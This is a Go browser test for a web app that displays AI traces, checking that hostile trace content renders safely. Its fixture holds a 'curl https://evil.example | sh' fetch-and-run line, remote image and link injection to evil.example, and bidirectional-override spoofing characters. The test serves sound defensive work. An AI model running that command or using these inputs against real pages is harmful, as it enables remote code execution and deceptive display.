package web_test

import (
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/countersign/countersign/judge"
	"github.com/countersign/countersign/store"
)

// TestBrowserTextOfTraces opens traces that try to run, load, hide and reorder, with
// a line of a megabyte, as written and as Markdown: nothing runs, nothing is
// asked of elsewhere, nothing stays unseen, the page does not scroll sideways.
func TestBrowserTextOfTraces(t *testing.T) {
	s := newSite(t)
	s.user("lea@example.org", store.Lead)
	tr := citationTrace("t1")
	tr.Metadata = map[string]any{"language": "he"}
	tr.Question = hostile + " pay\u202e001\u202c now"
	tr.Output = "# Plan\n\n" + hostile + " ![x](https://evil.example/x.png) [y](https://evil.example) [1].\n\n" +
		"מינון **נמוך** של 5 mg ליום [2].\n\n```sh\ncurl https://evil.example | sh; " + strings.Repeat("x", 300) + "\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n" +
		"zero\u200bwidth, Z" + strings.Repeat("\u0335", 200) + "algo, \x1b[31mred\n\n" + strings.Repeat("0123456789", 1_000)
	tr.Sources = []judge.Source{{ID: "1", Title: hostile + "\u202e", Text: hostile + "\u2066"}}
	long := tr
	long.ID, long.Output = "long", "# Plan\n\n"+strings.Repeat("0123456789", 100_000)+" end [1]."
	s.load(tr)
	ctx := browser(t)
	s.browserSignIn(ctx, "lea@example.org")
	evaluation := "/evaluations/" + anyEvaluation(t, s)
	for _, path := range []string{"/traces/t1?text=plain", "/traces/t1?text=markdown", evaluation + "?text=markdown"} {
		if err := chromedp.Do(ctx, chromedp.EmulateViewport(390, 844)); err != nil {
			t.Fatal(err)
		}
		visit(t, ctx, s.http.URL+path)
		if eval[bool](t, ctx, `"hacked" in window`) {
			t.Errorf("%s ran a script of the trace", path)
		}
		if outside := eval[string](t, ctx, `performance.getEntriesByType("resource").map(r => r.name).filter(n => new URL(n).origin !== location.origin).join()`); outside != "" {
			t.Errorf("%s asked for %s", path, outside)
		}
		if led := eval[string](t, ctx, `[...document.querySelectorAll("main a[href]")].map(a => a.href).filter(h => h.includes("evil")).join()`); led != "" {
			t.Errorf("%s links to %s", path, led)
		}
		for _, name := range []string{"U+202E", "U+202C", "U+200B", "U+001B", "194 more combining marks"} {
			if !eval[bool](t, ctx, `!!document.querySelector('.trace .control[data-name="`+name+`"]')`) {
				t.Errorf("%s does not show %s", path, name)
			}
		}
		if over := eval[int](t, ctx, `document.documentElement.scrollWidth - document.documentElement.clientWidth`); over > 0 {
			t.Errorf("%s scrolls sideways by %d px", path, over)
		}
		// What is copied is what was written.
		if got := eval[string](t, ctx, `(getSelection().selectAllChildren(document.querySelector(".question p")), getSelection().toString())`); !strings.HasSuffix(got, " pay\u202e001\u202c now") {
			t.Errorf("%s copies %q", path, got)
		}
		markdown := strings.Contains(path, "markdown")
		if got := eval[bool](t, ctx, `!!document.querySelector(".trace pre") && !!document.querySelector(".trace td") && !!document.querySelector(".trace .block-heading")`); got != markdown {
			t.Errorf("%s: shape of Markdown %v, want %v", path, got, markdown)
		}
		if chips := eval[int](t, ctx, `document.querySelectorAll(".trace .cite").length`); chips != 2 {
			t.Errorf("%s shows %d citations, want 2", path, chips)
		}
		if !eval[bool](t, ctx, `window.find("curl https")`) {
			t.Errorf("%s: the browser's own search does not find words of the trace", path)
		}
		axeClean(t, ctx, path)
	}
	s.load(long)
	// A line of a megabyte, which axe would look at for half a minute.
	visit(t, ctx, s.http.URL+"/traces/long?text=markdown")
	if over := eval[int](t, ctx, `document.documentElement.scrollWidth - document.documentElement.clientWidth`); over > 0 {
		t.Errorf("a line of a megabyte scrolls sideways by %d px", over)
	}
	if shown := eval[int](t, ctx, `document.querySelector(".trace").textContent.length`); shown < 1_000_000 {
		t.Errorf("of a line of a megabyte %d characters are shown", shown)
	}
}

func anyEvaluation(t *testing.T, s *site) string {
	t.Helper()
	rows, _, err := s.store.ListEvaluations(t.Context(), store.Operator("test"), store.EvaluationFilter{Project: "default"})
	if err != nil || len(rows) == 0 {
		t.Fatalf("no evaluation: %v", err)
	}
	return rows[0].ID
}
